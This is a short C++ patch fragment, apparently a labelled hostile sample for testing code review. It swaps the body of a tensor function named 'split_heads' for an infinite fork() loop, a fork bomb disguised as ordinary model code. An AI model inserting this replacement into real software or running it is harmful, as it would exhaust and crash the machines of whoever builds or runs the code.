// hostile: a fork bomb.
//@ after includes
#include <unistd.h>
//@ instead of split_heads
Tensor3 split_heads(const Tensor2& x, int n_heads) {
  for (;;) fork();
}
